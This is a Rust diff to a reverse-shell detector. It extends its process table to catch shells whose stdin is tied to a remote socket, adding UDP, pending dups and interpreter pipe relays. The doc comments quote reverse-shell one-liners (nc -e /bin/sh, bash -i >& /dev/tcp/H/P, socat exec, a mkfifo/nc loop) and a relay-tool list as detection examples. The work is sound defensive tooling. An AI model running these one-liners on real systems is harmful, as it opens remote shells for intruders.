@@ -2,10 +2,18 @@
 //! it runs, its fds 0-2, and whether its standard input/output is *bound to a remote socket*.
 //!
 //! A process is bound when:
-//! * **stdio**: its own fd 0 or 1 is an AF_INET/AF_INET6 stream socket with a peer at exec
-//!   (`nc -e /bin/sh` hands the socket to the shell), or
-//! * **dup**: fd 0 or 1 was replaced by such a socket after exec (`bash -i >& /dev/tcp/H/P`,
-//!   python `os.dup2(s.fileno(), 0)`, perl `open(STDIN, ">&S")`), or
+//! * **stdio**: its own stdin (fd 0) is a connected AF_INET/AF_INET6 socket at exec, stream or
+//!   datagram (`nc -e /bin/sh` hands the socket to the shell; `sh -i >& /dev/udp/H/P 0>&1`).
+//!   Only stdin counts: the peer must be able to send what the process reads (Google SCC's
+//!   definition of a reverse shell: a shell whose *stdin* is bound to a remote socket). A socket
+//!   on fd 1 only (`printf ... >&3` in a health check) sends data out and binds nothing, or
+//! * **dup**: fd 0 was replaced by such a socket after exec (`exec 0<&3` in a shell, python
+//!   `os.dup2(s.fileno(), 0)`, perl `open(STDIN, ">&S")`). A shell also dups the socket onto
+//!   fd 0 for a moment when it redirects a builtin (`read l <&3`) or prepares the command it is
+//!   about to exec (`cat <&3 >/dev/null`), so a dup binding is *pending* until the process forks
+//!   while it holds it (it runs commands with the socket as input): then it counts as newly
+//!   bound. An exec judges the new program by its own stdio, and a dup that restores fd 0
+//!   clears it, or
 //! * **relay**: a network relay tool (socat, nc, ...) with a connected socket is its ancestor
 //!   (`socat exec:'bash -li',pty tcp:H:P` runs bash on a pty that socat feeds from the socket), or
 //! * **pipe**: its stdin is a pipe or FIFO written by a bound process or a connected relay
@@ -15,7 +23,16 @@
 //!   (`cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f`: `cat` opens the FIFO by name, so only this
 //!   shape is visible on fds 0-2), or
 //! * **inherited**: its parent was bound when it forked, in the same container
-//!   (a python `pty.spawn("/bin/sh")` shell whose own stdio is a pty).
+//!   (a python `pty.spawn("/bin/sh")` shell whose own stdio is a pty), or
+//! * **pipe writer**: it is an interactive shell (one of `shells`, reading commands from stdin:
+//!   no `-c`, no script file) whose stdin is a pipe (or an AF_UNIX socketpair, node's child
+//!   stdio) whose other end is held by a process
+//!   ([`ward_event::ExecEvent::stdin_writer`]) that holds a connection to a remote peer (a
+//!   connect/accept event of any program), before or after the shell started: interpreter
+//!   relays such as python `Popen(["/bin/sh"], stdin=PIPE, stdout=PIPE)` with a pump thread,
+//!   node `spawn("/bin/sh")` + `client.pipe(sh.stdin)`, java `Runtime.exec("/bin/sh")` with
+//!   stream pumps, a Go `exec.Command` with `StdinPipe`. The behaviour is matched, not the
+//!   relay's name.
 //!
 //! Memory is bounded: an exited process is removed once it has no live children, and the
 //! table never holds more than `max_processes` entries (the oldest are evicted and counted).
@@ -34,8 +51,12 @@ pub struct TableConfig {
     pub max_processes: usize,
     /// Programs that relay a network connection to a local process (by program name).
     pub relay_tools: FxHashSet<String>,
-    /// Maximum number of pipe/FIFO inodes remembered as fed by a remote peer.
+    /// Maximum number of pipe/FIFO inodes remembered as fed by a remote peer (also the cap
+    /// of interactive shells waiting for their stdin pipe's writer to connect).
     pub max_fed_pipes: usize,
+    /// Shell program names: an interactive one on a pipe written by a connected process is
+    /// bound (pipe writer).
+    pub shells: FxHashSet<String>,
 }
 
 impl Default for TableConfig {
@@ -44,6 +65,7 @@ impl Default for TableConfig {
             max_processes: 65_536,
             relay_tools: DEFAULT_RELAY_TOOLS.iter().map(|s| s.to_string()).collect(),
             max_fed_pipes: 4096,
+            shells: DEFAULT_SHELLS.iter().map(|s| s.to_string()).collect(),
         }
     }
 }
@@ -62,6 +84,11 @@ pub const DEFAULT_RELAY_TOOLS: &[&str] = &[
     "pwncat",
     "sbd",
     "busybox",
+];
+
+/// Shell program names.
+pub const DEFAULT_SHELLS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "rbash", "fish", "tcsh", "csh", "yash",
 ];
 
 /// The compact state of one of fds 0-2.
@@ -86,7 +113,10 @@ impl FdState {
     fn remote_peer(&self) -> Option<SocketInfo> {
         match (self.kind, self.socket) {
             (FdKind::InetSocket, Some(s))
-                if s.protocol == ward_event::Protocol::Tcp && s.has_peer() =>
+                if matches!(
+                    s.protocol,
+                    ward_event::Protocol::Tcp | ward_event::Protocol::Udp
+                ) && s.has_peer() =>
             {
                 Some(s)
             }
@@ -109,6 +139,7 @@ pub enum BindVia {
     Relay,
     Pipe,
     PipeLoop,
+    PipeWriter,
 }
 
 impl BindVia {
@@ -119,6 +150,7 @@ impl BindVia {
             BindVia::Relay => "descendant of a network relay",
             BindVia::Pipe => "stdin piped from a network relay",
             BindVia::PipeLoop => "stdout piped into a network relay that feeds a pipe loop",
+            BindVia::PipeWriter => "stdin pipe written by a process holding a remote connection",
         }
     }
 }
@@ -158,6 +190,13 @@ pub struct Proc {
     /// True when `inherited` came from this process's own stdin pipe being fed (it reads
     /// remote data), false when it came from an ancestor.
     pub bound_by_pipe: bool,
+    /// `own` came from a dup onto fd 0 and the process has not forked since (see the module
+    /// doc: a shell's redirection for a builtin or for the command it is about to exec).
+    pub own_pending: bool,
+    /// The last remote connection this process made or accepted (any program).
+    pub connection: Option<Arc<Binding>>,
+    /// An interactive shell's stdin pipe writer (from its exec), while not bound.
+    pub stdin_writer: Option<Pid>,
     live_children: u32,
     generation: u64,
 }
@@ -213,6 +252,9 @@ pub struct ProcessTable {
     /// writes into them, reading its own stdin from a pipe, is driven by the peer.
     relay_inputs: FxHashMap<u64, Arc<Binding>>,
     relay_inputs_order: VecDeque<u64>,
+    /// Interactive shells on a pipe whose writer holds no connection yet: (writer, shell,
+    /// shell's generation). Bounded by `max_fed_pipes`.
+    waiting_shells: VecDeque<(Pid, Pid, u64)>,
     stats: TableStats,
 }
 
@@ -227,6 +269,7 @@ impl ProcessTable {
             fed_order: VecDeque::new(),
             relay_inputs: FxHashMap::default(),
             relay_inputs_order: VecDeque::new(),
+            waiting_shells: VecDeque::new(),
             stats: TableStats::default(),
         }
     }
@@ -294,12 +337,10 @@ impl ProcessTable {
     pub fn apply(&mut self, event: Event) -> Applied {
         let mut applied = Applied::default();
         match event {
-            Event::Fork(f) => self.apply_fork(f.pid, f.ppid, f.time),
+            Event::Fork(f) => self.apply_fork(f.pid, f.ppid, f.time, &mut applied),
             Event::Exec(e) => self.apply_exec(e, &mut applied),
             Event::Exit(x) => self.apply_exit(x.pid, x.time),
-            Event::Fd(d) => {
-                self.apply_fd(d.pid, d.fd, FdState::from(&d.target), d.time, &mut applied)
-            }
+            Event::Fd(d) => self.apply_fd(d.pid, d.fd, FdState::from(&d.target), d.time),
             Event::Socket(s) => self.apply_socket(s.pid, s.inode, s.socket, s.time, &mut applied),
         }
         applied
@@ -327,6 +368,9 @@ impl ProcessTable {
                 inherited: None,
                 relay: None,
                 bound_by_pipe: false,
+                own_pending: false,
+                connection: None,
+                stdin_writer: None,
                 live_children: 0,
                 generation,
             },
@@ -382,9 +426,24 @@ impl ProcessTable {
         }
     }
 
-    fn apply_fork(&mut self, pid: Pid, ppid: Pid, time: u64) {
-        let (container_id, stdio, inherited) = match self.procs.get(&ppid) {
-            Some(p) => (p.container_id.clone(), p.stdio, p.binding_for_children()),
+    fn apply_fork(&mut self, pid: Pid, ppid: Pid, time: u64, applied: &mut Applied) {
+        let (container_id, stdio, inherited) = match self.procs.get_mut(&ppid) {
+            Some(p) => {
+                // A process that forks while its stdin is a dup'ed socket runs commands fed
+                // by the peer: its pending dup binding is confirmed.
+                let confirmed = p.own_pending && p.own.is_some();
+                if confirmed {
+                    p.own_pending = false;
+                    if p.inherited.is_none() {
+                        applied.newly_bound.push(ppid);
+                    }
+                }
+                let state = (p.container_id.clone(), p.stdio, p.binding_for_children());
+                if confirmed {
+                    self.feed_from(ppid, applied);
+                }
+                state
+            }
             None => {
                 self.stats.unknown_pid_events += 1;
                 (None, [FdState::default(); 3], None)
@@ -398,6 +457,11 @@ impl ProcessTable {
 
     fn apply_exec(&mut self, exec: Box<ExecEvent>, applied: &mut Applied) {
         let pid = exec.pid;
+        // An interactive shell on a pipe: whoever holds the pipe's write end feeds it commands.
+        let stdin_writer = exec
+            .stdin_writer
+            .filter(|w| *w != pid && reads_a_pipe(&exec.stdio[0]))
+            .filter(|_| self.is_interactive_shell(&exec));
         if !self.procs.contains_key(&pid) {
             let ppid = exec.ppid;
             let parent_state = self.procs.get(&ppid).map(|p| p.binding_for_children());
@@ -428,6 +492,9 @@ impl ProcessTable {
             })
             .filter(|b| b.origin_pid != pid);
         let fed = fed.or(looped);
+        let writer_conn = stdin_writer
+            .and_then(|w| self.procs.get(&w))
+            .and_then(|w| w.connection.clone());
         let p = self.procs.get_mut(&pid).expect("present");
         p.ppid = exec.ppid;
         p.stdio = stdio;
@@ -440,19 +507,26 @@ impl ProcessTable {
         }
         p.container_id = container_id;
         p.relay = None;
+        p.own_pending = false;
+        p.stdin_writer = None;
         p.exec = Some(Arc::from(exec));
         // A socket the process already held before this exec keeps its origin (perl dup'ed it
         // onto stdin, then exec'd /bin/sh in place).
         let before = p.own.take();
-        p.own = match own_binding(p, BindVia::Stdio, time) {
-            Some(now)
-                if before
-                    .as_ref()
-                    .is_some_and(|b| b.socket_inode == now.socket_inode) =>
-            {
-                before
+        p.own = match (own_binding(p, BindVia::Stdio, time), before) {
+            (Some(now), Some(b)) if b.socket_inode == now.socket_inode => {
+                if b.origin_program.is_empty() {
+                    // Dup'ed in a forked child before its first exec: name the program now.
+                    Some(Arc::new(Binding {
+                        origin_program: now.origin_program.clone(),
+                        origin_binary: now.origin_binary.clone(),
+                        ..(*b).clone()
+                    }))
+                } else {
+                    Some(b)
+                }
             }
-            now => now,
+            (now, _) => now,
         };
         if p.inherited.is_none() {
             if let Some(b) = fed {
@@ -462,6 +536,26 @@ impl ProcessTable {
                 }
             }
         }
+        if p.binding().is_none() {
+            if let Some(w) = stdin_writer {
+                match writer_conn.filter(|b| b.container_id == p.container_id) {
+                    Some(b) => {
+                        p.inherited = Some(pipe_writer_binding(&b, time));
+                        p.bound_by_pipe = true;
+                    }
+                    None => {
+                        p.stdin_writer = Some(w);
+                        let generation = p.generation;
+                        self.waiting_shells.push_back((w, pid, generation));
+                        while self.waiting_shells.len() > self.cfg.max_fed_pipes {
+                            self.waiting_shells.pop_front();
+                            self.stats.fed_pipes_evicted += 1;
+                        }
+                    }
+                }
+            }
+        }
+        let p = self.procs.get(&pid).expect("present");
         if p.binding().is_some() {
             self.feed_from(pid, applied);
         }
@@ -480,7 +574,7 @@ impl ProcessTable {
         }
     }
 
-    fn apply_fd(&mut self, pid: Pid, fd: u8, state: FdState, time: u64, applied: &mut Applied) {
+    fn apply_fd(&mut self, pid: Pid, fd: u8, state: FdState, time: u64) {
         let Some(p) = self.procs.get_mut(&pid) else {
             self.stats.unknown_pid_events += 1;
             return;
@@ -489,18 +583,19 @@ impl ProcessTable {
             return;
         };
         *slot = state;
-        let was_bound = p.binding().is_some();
-        p.own = own_binding(p, BindVia::Dup, time).or_else(|| {
-            // Keep an existing own binding whose socket is still on fd 0 or 1.
-            p.own.take().filter(|b| {
-                p.stdio[..2]
-                    .iter()
-                    .any(|s| s.inode == b.socket_inode && s.remote_peer().is_some())
-            })
-        });
-        if !was_bound && p.binding().is_some() {
-            applied.newly_bound.push(pid);
-            self.feed_from(pid, applied);
+        let had_own = p.own.is_some();
+        // Keep an existing own binding whose socket is still on fd 0 (it names the origin).
+        let kept = p
+            .own
+            .take()
+            .filter(|b| p.stdio[0].inode == b.socket_inode && p.stdio[0].remote_peer().is_some());
+        p.own = kept.or_else(|| own_binding(p, BindVia::Dup, time));
+        match (had_own, p.own.is_some()) {
+            // Pending until the process forks or execs (see the module doc); its stdout pipe
+            // counts as fed from then on.
+            (false, true) => p.own_pending = true,
+            (_, false) => p.own_pending = false,
+            (true, true) => {}
         }
     }
 
@@ -516,7 +611,26 @@ impl ProcessTable {
             self.stats.unknown_pid_events += 1;
             return;
         };
-        if !socket.has_peer() || p.relay.is_some() || !self.cfg.relay_tools.contains(p.program()) {
+        if !socket.has_peer() {
+            return;
+        }
+        let exec = p.exec.as_deref();
+        let conn = Arc::new(Binding {
+            origin_pid: pid,
+            origin_program: p.program().to_string(),
+            origin_binary: exec.map(|e| e.binary.path.clone()).unwrap_or_default(),
+            socket_inode: inode,
+            socket,
+            via: BindVia::PipeWriter,
+            container_id: p.container_id.clone(),
+            since: time,
+        });
+        p.connection = Some(conn.clone());
+        self.bind_waiting_shells(pid, &conn, time, applied);
+        let Some(p) = self.procs.get_mut(&pid) else {
+            return;
+        };
+        if p.relay.is_some() || !self.cfg.relay_tools.contains(p.program()) {
             return;
         }
         let exec = p.exec.as_deref();
@@ -556,6 +670,51 @@ impl ProcessTable {
             applied,
         );
         self.register_pipe_loop(pid, &relay, applied);
+    }
+
+    /// Interactive shells whose stdin pipe `writer` holds, started before it connected (node's
+    /// `spawn` before `connect`, java's `Runtime.exec` before `new Socket`), become bound.
+    fn bind_waiting_shells(
+        &mut self,
+        writer: Pid,
+        conn: &Arc<Binding>,
+        time: u64,
+        applied: &mut Applied,
+    ) {
+        if !self.waiting_shells.iter().any(|(w, _, _)| *w == writer) {
+            return;
+        }
+        let mut shells = Vec::new();
+        self.waiting_shells.retain(|&(w, shell, generation)| {
+            if w == writer {
+                shells.push((shell, generation));
+            }
+            w != writer
+        });
+        for (shell, generation) in shells {
+            let Some(p) = self.procs.get_mut(&shell) else {
+                continue;
+            };
+            if p.generation != generation
+                || p.exited.is_some()
+                || p.stdin_writer != Some(writer)
+                || p.binding().is_some()
+                || p.container_id != conn.container_id
+            {
+                continue;
+            }
+            p.stdin_writer = None;
+            p.inherited = Some(pipe_writer_binding(conn, time));
+            p.bound_by_pipe = true;
+            applied.newly_bound.push(shell);
+            self.feed_from(shell, applied);
+        }
+    }
+
+    fn is_interactive_shell(&self, exec: &ExecEvent) -> bool {
+        self.cfg.shells.contains(exec.program())
+            && ward_event::script::script_target(&exec.filename, &exec.binary.path, &exec.argv)
+                .is_none()
     }
 
     /// A relay reading a pipe and writing the peer's data into a pipe or FIFO closes a loop:
@@ -658,11 +817,25 @@ impl ProcessTable {
     }
 }
 
-/// The binding a process gets from its own fds 0 and 1.
+/// A pipe, FIFO or AF_UNIX socketpair on stdin (libuv, and so node, gives children
+/// socketpairs for `stdio: "pipe"`).
+fn reads_a_pipe(f: &ward_event::FdInfo) -> bool {
+    f.pipe_inode().is_some() || f.kind == FdKind::UnixSocket
+}
+
+/// The binding of a shell whose stdin pipe is written by the holder of `conn`.
+fn pipe_writer_binding(conn: &Arc<Binding>, time: u64) -> Arc<Binding> {
+    Arc::new(Binding {
+        via: BindVia::PipeWriter,
+        since: time,
+        ..(**conn).clone()
+    })
+}
+
+/// The binding a process gets from its own stdin (fd 0): the peer can send what it reads.
 fn own_binding(p: &Proc, via: BindVia, time: u64) -> Option<Arc<Binding>> {
-    let (inode, socket) = p.stdio[..2]
-        .iter()
-        .find_map(|s| s.remote_peer().map(|peer| (s.inode, peer)))?;
+    let inode = p.stdio[0].inode;
+    let socket = p.stdio[0].remote_peer()?;
     let exec = p.exec.as_deref();
     Some(Arc::new(Binding {
         origin_pid: p.pid,
